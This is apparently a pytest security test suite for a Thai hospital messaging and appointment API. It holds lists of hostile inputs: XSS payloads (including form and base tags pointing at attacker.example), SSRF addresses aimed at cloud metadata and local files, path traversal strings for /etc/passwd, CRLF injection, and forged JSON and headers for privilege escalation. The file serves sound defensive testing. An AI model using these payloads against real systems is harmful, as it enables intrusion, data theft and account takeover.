"""Input that attacks whatever reads it.

The server's files and network, the browser that shows it, and the next program.
"""

import base64
import hashlib
import hmac
import http.client
import json
from typing import Any
from urllib.parse import urlsplit

import pytest

from infra.local.local_stack import LocalStack
from tests.client import SLOTS, Client, in_days, new_cid
from tests.waiting import eventually

OPEN_DAYS = (20,)
SCRIPTS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java&#9;script:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<form action=//attacker.example><input name=cid></form>",
    "<base href=//attacker.example><meta http-equiv=refresh content=0>",
]
RUNS = (
    "<script",
    "onerror=",
    "onload=",
    "javascript:",
    "srcdoc",
    "<iframe",
    "style=",
    "<form",
    "<base",
    "<meta",
    "data:",
)
ADDRESSES = [
    "http://127.0.0.1/",
    "https://127.0.0.1/",
    "https://127.1/",
    "https://2130706433/",
    "https://0x7f000001/",
    "https://0177.0.0.1/",
    "https://[::1]/",
    "https://[::ffff:169.254.169.254]/",
    "https://169.254.169.254/latest/meta-data/",
    "https://localhost/",
    "https://localhost:8000/",
    "https://user@his.example.go.th/",
    "https://his.example.go.th:22/",
    "file:///etc/passwd",
    "gopher://127.0.0.1/",
    "//127.0.0.1/",
    "https://127。0。0。1/",
    "https://10.0.0.1\\@his.example.go.th/",
    "https://his.example.go.th/\r\nX-Sent: 1",
]


def announce(his: Client, cid: str, **changed: Any) -> Any:
    hospital = {"hospital_code": his.hospital_code}
    person = {"cid": cid, "first_name": "ทดสอบ", "gender": 1}
    assert (
        his.call("POST", "/api/SendImmunizationTarget", body={"hospital": hospital, "target": [person]}).status == 200
    )
    body = {
        "hospital": hospital,
        "message_ref_code": cid,
        "message_title": "เรื่อง",
        "message_content_html": "<p>ข้อความ</p>",
        "target": [cid],
        **changed,
    }
    return his.call("POST", "/api/SendMessageTarget", body=body)


def test_no_script_of_an_announcement_reaches_the_person(his: Client, app_client: Client) -> None:
    cid = new_cid()
    sent = announce(his, cid, message_content_html="<p>ข้อความ</p>" + "".join(f"<p>{each}</p>" for each in SCRIPTS))
    assert sent.status == 200, sent.text

    def inbox() -> Any:
        return app_client.call("POST", "/api/message/Inbox", body={"cid": cid}).result

    eventually(inbox, "the message is in the inbox")
    html = inbox()[0]["message_content_html"].lower()
    assert "ข้อความ" in html
    assert [each for each in RUNS if each in html.replace("&lt;", "")] == []


@pytest.mark.parametrize("url", ADDRESSES)
def test_a_message_confirm_url_inside_the_network_is_refused_by_name(his: Client, url: str) -> None:
    reply = announce(his, new_cid(), message_confirm_url=url)
    assert (reply.status, set(reply.json["Error"]["fields"])) == (400, {"message_confirm_url"}), reply.text


@pytest.mark.parametrize("field", ["prefix", "first_name", "last_name"])
@pytest.mark.parametrize("character", ["\u202e", "\u2066", "\r", "\n", "\x00", "\x85"])
def test_a_name_that_would_turn_or_break_a_line_is_refused_by_name(his: Client, field: str, character: str) -> None:
    body = his.booking(his.schedules(in_days(20))[0]["schedule_id"], new_cid())
    body["person"][field] = f"สม{character}ชาย"
    reply = his.call("POST", SLOTS, {"Action": "ConfirmAppointmentSlot"}, body)
    assert (reply.status, set(reply.json["Error"]["fields"])) == (400, {f"person.{field}"})


def test_what_a_key_is_called_or_how_often_it_comes_changes_nobodys_hospital(his: Client, his2: Client) -> None:
    """his2 books for 00002; whatever it adds, it does not become the own hospital."""
    own, cid = json.dumps(his.hospital_code), new_cid()
    schedule = his.schedules(in_days(20))[1]["schedule_id"]
    honest = json.dumps(his2.booking(schedule, cid) | {"hospital": {"hospital_code": "00002"}})
    forged = [
        f'{{"__proto__": {{"hospital_code": {own}}}, "constructor": {{"roles": ["APPOINTMENT_API:5"]}}, {honest[1:]}',
        f'{{"caller": {{"hospital_code": {own}}}, "roles": {{"APPOINTMENT_API": 5}}, {honest[1:]}',
    ]
    for body in forged:
        assert his2.call("POST", SLOTS, {"Action": "ConfirmAppointmentSlot"}, body.encode()).status == 200
    twice = honest.replace('"hospital_code": "00002"', f'"hospital_code": "00002", "hospital_code": {own}')
    reply = his2.call("POST", SLOTS, {"Action": "ConfirmAppointmentSlot"}, twice.encode())
    assert reply.code == "Forbidden"
    assert his2.slots("GetHospitalSlotConfirmByDate", date=in_days(20), hospital_code=his.hospital_code).status == 403


@pytest.mark.parametrize("header", ["X-Forwarded-User", "X-Amzn-Oidc-Data", "X-Original-URL", "X-HTTP-Method-Override"])
def test_no_header_signs_anybody_in_or_turns_the_request_into_another(local_stack: LocalStack, header: str) -> None:
    anyone = Client(local_stack.url)
    for value in ("admin.demo@00000", "/health", "GET"):
        assert anyone.call("GET", "/api/accounts/hospitals", headers={header: value}).status == 401


@pytest.mark.parametrize(
    "path",
    [
        "/../../etc/passwd",
        "/..%2f..%2fetc%2fpasswd",
        "/%2e%2e/%2e%2e/chalicelib/http_adapter.py",
        "/assets/../../../app.py",
        "/assets/..%5c..%5capp.py",
        "//etc/passwd",
        "/phone/../../.chalice/config.json",
        "/phone/api/../../../etc/passwd",
        "/phone/api/%2e%2e/control/counts",
        "/index.html%00.png",
    ],
)
def test_no_path_leads_to_a_file_outside_the_site(local_stack: LocalStack, path: str) -> None:
    where = urlsplit(local_stack.url)
    connection = http.client.HTTPConnection(where.hostname or "", where.port, timeout=180)
    connection.request("GET", path)  # as it is: a library for URLs would resolve the dots
    answer = connection.getresponse()
    content = answer.read()
    assert answer.status in (401, 404)  # 401: of the phone page's back end, which has no files
    assert b"root:" not in content


def signed(local_stack: LocalStack, body: bytes) -> Any:
    secret = local_stack.env["LINE_CHANNEL_SECRET"].encode()
    signature = base64.b64encode(hmac.new(secret, body, hashlib.sha256).digest()).decode()
    return Client(local_stack.url).call("POST", "/line/webhook", body=body, headers={"X-Line-Signature": signature})


@pytest.mark.parametrize(
    "body",
    [
        b'{"events": [null, 7, {}, {"type": []}]}',
        b'{"events": 7}',
        b"[" * 50_000,
        b"\xff",
        b'{"events":[' + b"{}," * 9_000,
    ],
)
def test_malformed_line_events_are_never_a_fault(local_stack: LocalStack, body: bytes) -> None:
    assert signed(local_stack, body).status in (200, 400)


@pytest.mark.parametrize("signature", ["", "x", "ü", "AAAA" * 5_000])
def test_line_events_without_the_channels_signature_are_refused(local_stack: LocalStack, signature: str) -> None:
    headers = {"X-Line-Signature": signature.encode().decode("latin-1")}
    assert Client(local_stack.url).call("POST", "/line/webhook", body=b'{"events": []}', headers=headers).status == 401
